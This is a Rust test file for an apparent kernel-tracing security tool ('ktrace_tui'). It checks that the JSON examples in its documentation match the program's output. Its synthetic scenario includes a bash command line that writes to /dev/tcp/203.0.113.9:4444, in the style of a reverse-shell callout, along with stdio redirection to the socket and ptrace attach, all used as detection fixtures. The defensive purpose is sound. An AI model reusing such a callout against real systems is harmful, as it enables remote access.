//! The examples of docs/JSON.md are what the program writes, byte for byte.
#![allow(clippy::unwrap_used, reason = "tests")]

use std::collections::BTreeSet;
use std::sync::Arc;

use ktrace_tui::audit::audit;
use ktrace_tui::detect::Detector;
use ktrace_tui::export::json::{write_audited, write_event, write_finding, write_incident};
use ktrace_tui::model::*;
use serde_json::Value;

const DOCUMENT: &str = concat!(env!("CARGO_MANIFEST_DIR"), "/../docs/JSON.md");
const ID: &str = "9f2c6e0b7d1a4c58b3e2f1a09d8c7b6a5f4e3d2c1b0a99887766554433221100";
const BOOT: Time = Time(1_795_412_400_218_734_551);
const SHIM: ProcessId = ProcessId { pid: 811, start: Ticks(3_141) };
const NGINX: ProcessId = ProcessId { pid: 902, start: Ticks(3_188) };
const SHELL: ProcessId = ProcessId { pid: 4_242, start: Ticks(609_112) };
const SSHD: ProcessId = ProcessId { pid: 640, start: Ticks(1_205) };

/// `millis` milliseconds, and some, after the shell was made.
fn at(millis: u64) -> Time {
    Time(BOOT.0 + SHELL.start.0 * Ticks::NANOS + millis * 1_000_000 + 456_789)
}

fn cgroup(id: u64, path: &str, key: GroupKey, runtime: Option<Runtime>) -> Arc<Cgroup> {
    Arc::new(Cgroup { id, path: path.into(), place: Place { key, runtime, ..Place::default() } })
}

fn image(millis: u64, exe: &str, args: &[&[u8]]) -> Image {
    let args = args.iter().map(|arg| Text::from(*arg)).collect();
    let argv = Argv { args, ..Argv::default() };
    Image { time: at(millis), exe: exe.into(), given: exe.into(), argv, cwd: "/srv".into(), unlinked: false }
}

fn creds(id: u32) -> Creds {
    Creds { uid: id, gid: id, euid: id, login_uid: None, session: None }
}

fn namespaces() -> Namespaces {
    Namespaces([4026532901, 4026532904, 4026532906, 4026532903, 4026532902, 4026532905, 4026531837, 4026531834])
}

fn process(millis: u64, process: ProcessId, cgroup: Option<&Arc<Cgroup>>, kind: Kind) -> Event {
    Event::Process(ProcessEvent { time: at(millis), process, tid: process.pid, cgroup: cgroup.cloned(), kind })
}

fn net(op: NetOp, direction: Direction, local: Option<&str>, remote: Option<&str>) -> Net {
    let (local, remote) = (local.map(|text| text.parse().unwrap()), remote.map(|text| text.parse().unwrap()));
    let protocol = Protocol::Tcp;
    Net { op, protocol, direction, local, remote, socket: 1, sent: None, received: None, error: None }
}

/// A web server that starts a shell, which calls out.
fn story() -> Vec<Event> {
    let web = cgroup(
        6_021,
        &format!("/system.slice/docker-{ID}.scope"),
        GroupKey::Container(ID.into()),
        Some(Runtime::Docker),
    );
    let ssh = cgroup(2_480, "/system.slice/ssh.service", GroupKey::Service("ssh.service".into()), None);
    let mut story = before(&web);
    let on_net = |millis, who, net| process(millis, who, Some(&web), Kind::Net(Box::new(net)));
    let exec = Exec {
        image: image(1, "/usr/bin/bash", &[b"bash", b"-c", b"printf '\xff' > /dev/tcp/203.0.113.9/4444"]),
        parent: Some(NGINX),
        ns_pid: 31,
        creds: creds(33),
        caps: Caps { effective: 0, permitted: 0 },
        namespaces: namespaces(),
        tty: "pts/0".into(),
        stdio: Default::default(),
        file: None,
    };
    let (local, remote) = (Some("172.17.0.2:51034"), Some("203.0.113.9:4444"));
    let mut close = net(NetOp::Close, Direction::Outbound, local, remote);
    (close.sent, close.received) = (Some(1), Some(0));
    let act = |millis, what| {
        process(millis, SHELL, Some(&web), Kind::Act(Box::new(Act { error: None, observer: None, what })))
    };
    let opened = Opened { path: "/data/f".into(), host: Some("/srv/f".into()), write: true, ..Opened::default() };
    let naming = Naming { path: "/data/g".into(), from: "/data/f".into(), ..Naming::default() };
    let wrote = Wrote { path: "/data/g".into(), bytes: "x".into(), ..Wrote::default() };
    let exit = Exit { code: Some(0), run_time: Some(60_000_000), ..Exit::default() };
    story.extend([
        process(0, SHELL, Some(&web), Kind::Fork(Fork { maker: NGINX, parent: SHIM, ns_pid: 31, creds: creds(33) })),
        process(1, SHELL, Some(&web), Kind::Exec(Box::new(exec))),
        on_net(9, SHELL, net(NetOp::Connect, Direction::Outbound, None, remote)),
        on_net(31, SHELL, net(NetOp::Established, Direction::Outbound, local, remote)),
        act(32, descriptor(0)),
        act(33, descriptor(1)),
        act(40, Deed::Open(Box::new(opened))),
        act(41, Deed::Name(Box::new(naming))),
        act(42, Deed::Reach { how: ReachCall::Attach, target: Some(NGINX) }),
        continued(),
        act(43, Deed::Wrote(Box::new(wrote))),
        act(44, Deed::Relay(Relay { inward: 3, inward_exact: 2, outward: 2, outward_exact: 2, ..Relay::default() })),
        process(48, SHELL, Some(&web), Kind::Content(content())),
        on_net(52, SHELL, close),
        process(60, SHELL, Some(&web), Kind::Exit(exit)),
        on_net(70, NGINX, net(NetOp::Listen, Direction::Listening, Some("[::]:8080"), None)),
        on_net(90, NGINX, net(NetOp::Accept, Direction::Inbound, Some("[fd00::2]:8080"), Some("[fd00::7]:40112"))),
        process(100, SSHD, Some(&ssh), Kind::Move),
        process(110, NGINX, Some(&web), Kind::Vanished),
        Event::Loss(Loss { time: at(120), kind: LossKind::Exec, count: 17, from: at(110), to: at(120), group: None }),
        Event::Loss(Loss {
            time: at(120),
            kind: LossKind::Act,
            count: 17,
            from: at(110),
            to: at(120),
            group: Some(GroupKey::Container(ID.into())),
        }),
        Event::Status(Status {
            time: at(130),
            topic: "docker".to_owned(),
            health: Health::Missing,
            text: "no permission to read /run/docker.sock; names of its containers are not known".to_owned(),
        }),
    ]);
    story
}

/// The shell has whoever tells all this go on.
fn continued() -> Event {
    let observer = Some(Observer { part: Part::Process, parent: Some(SSHD) });
    let what = Deed::Signal { number: 18, target: Some(ProcessId { pid: 3_007, start: Ticks(598_400) }) };
    process(42, SHELL, None, Kind::Act(Box::new(Act { error: None, observer, what })))
}

fn content() -> Box<Content> {
    Box::new(Content { exe: "/usr/bin/bash".into(), sha256: Sha256([0x1f; 32]), size: 1_265_648 })
}

/// What was there before the shell: the web server, met in /proc, in a container that has a name.
fn before(web: &Arc<Cgroup>) -> Vec<Event> {
    let seen = Seen {
        parent: Some(SHIM),
        image: Some(Image { given: Text::default(), ..image(0, "/usr/bin/gunicorn", &[b"gunicorn: master"]) }),
        born: at(0),
        ns_pid: 1,
        creds: creds(0),
        caps: Caps { effective: 0xa804_25fb, permitted: 0xa804_25fb },
        namespaces: namespaces(),
        tty: Text::default(),
        connections: Vec::new(),
        stdio: Default::default(),
        fifos: Vec::new(),
    };
    let news = ContainerNews {
        id: ID.to_owned(),
        name: Some("web".to_owned()),
        image: Some("nginx:1.29".to_owned()),
        runtime: Some(Runtime::Docker),
        ..ContainerNews::default()
    };
    vec![
        Event::Boot(Boot { time: BOOT, ..Boot::default() }),
        Event::Container(news),
        process(0, NGINX, Some(web), Kind::Seen(Box::new(seen))),
    ]
}

fn written() -> Vec<String> {
    let (mut model, mut out, mut found) = (Model::default(), Vec::new(), Vec::new());
    let mut detector = Detector::new(Vec::new());
    for event in story() {
        model.apply(&event);
        write_event(&mut out, &event, &model).unwrap();
        let news = detector.observe(&event, &model);
        for number in news.findings {
            write_finding(&mut found, detector.finding(number).unwrap(), &model).unwrap();
        }
        for incident in news.incidents {
            let incident = detector.incident(incident, &model).unwrap();
            write_incident(&mut found, &incident, &detector, &model).unwrap();
        }
    }
    out.extend(found);
    write_audited(&mut out, &audited(&mut model), &model).unwrap();
    String::from_utf8(out).unwrap().lines().map(str::to_owned).collect()
}

/// A container that keeps to itself but for its processes, of whose filter the runtime says more than is so.
fn audited(model: &mut Model) -> ktrace_tui::audit::Audited {
    let asked = Allowed {
        privileged: Some(false),
        bounding: Some(0),
        seccomp: Some(Seccomp::Filter),
        profile: Some("default".to_owned()),
        no_new_privs: Some(true),
        uid: Some(1_000),
        shared: [Some(false), Some(true), Some(false), Some(false), Some(false), None, Some(true), None],
        read_only: Some(true),
        mounts: Some(Vec::new()),
        ..Allowed::default()
    };
    let real = Allowed { seccomp: Some(Seccomp::Disabled), profile: None, ..asked.clone() };
    for (witness, allowed) in [(Witness::Proc, real), (Witness::Docker, asked)] {
        let (time, container) = (at(140), ID.into());
        model.apply(&Event::Posture(Box::new(Posture { time, container, witness, process: None, allowed })));
    }
    audit(model).into_iter().find(|audited| &*audited.id == ID).unwrap()
}

/// A standard stream of the shell that leads to its connection from now on.
fn descriptor(fd: u32) -> Deed {
    let endpoint = Endpoint {
        socket: 1,
        protocol: Some(Protocol::Tcp),
        direction: Some(Direction::Outbound),
        owner: Some(SHELL),
        local: "172.17.0.2:51034".parse().ok(),
        remote: "203.0.113.9:4444".parse().ok(),
    };
    let now = Descriptor { to: Target::Socket(Arc::new(endpoint)), inode: 1, device: 8, read: true, write: true };
    Deed::Descriptor { fd, how: DescriptorCall::Dup, now }
}

fn keys(value: &Value, found: &mut BTreeSet<String>) {
    match value {
        Value::Object(fields) => {
            for (key, value) in fields {
                found.insert(key.clone());
                keys(value, found);
            }
        }
        Value::Array(values) => values.iter().for_each(|value| keys(value, found)),
        _ => {}
    }
}

#[test]
fn the_examples_are_what_is_written() {
    let document = std::fs::read_to_string(DOCUMENT).unwrap();
    let examples: Vec<_> = document.lines().filter(|line| line.starts_with("{\"type\"")).collect();
    let written = written();
    if std::env::var_os("KTRACE_WRITE_DOCS").is_some() {
        let mut lines = written.iter();
        let replaced = |line: &str| match line.starts_with("{\"type\"") {
            true => lines.next().cloned().unwrap_or_default(),
            false => line.to_owned(),
        };
        let page: Vec<String> = document.lines().map(replaced).collect();
        std::fs::write(DOCUMENT, page.join("\n") + "\n").unwrap();
        return;
    }
    assert_eq!(examples, written, "docs/JSON.md should show these lines, in this order:\n{}", written.join("\n"));
}

#[test]
fn every_type_and_kind_has_an_example() {
    let lines: Vec<Value> = written().iter().map(|line| serde_json::from_str(line).unwrap()).collect();
    let kinds: Vec<_> = lines.iter().filter(|line| line["type"] == "event").map(|line| &line["kind"]).collect();
    let expected = [
        "seen",
        "fork",
        "exec",
        "connect",
        "established",
        "descriptor",
        "descriptor",
        "open",
        "rename",
        "ptrace",
        "signal",
        "write",
        "relay",
        "content",
        "close",
        "exit",
        "listen",
        "accept",
        "move",
        "vanished",
    ];
    assert_eq!(kinds, expected);
    let others: Vec<_> = lines.iter().map(|line| &line["type"]).filter(|name| *name != "event").collect();
    assert_eq!(others, ["loss", "loss", "status", "finding", "incident", "audit"]);
}

#[test]
fn every_field_is_explained() {
    let document = std::fs::read_to_string(DOCUMENT).unwrap();
    let mut fields = BTreeSet::new();
    for line in written() {
        keys(&serde_json::from_str(&line).unwrap(), &mut fields);
    }
    let prose: Vec<_> = document.lines().filter(|line| !line.starts_with('{')).collect();
    let prose = prose.join("\n");
    let missing: Vec<_> = fields.iter().filter(|field| !prose.contains(&format!("`{field}`"))).collect();
    assert!(missing.is_empty(), "docs/JSON.md does not explain {missing:?}");
}
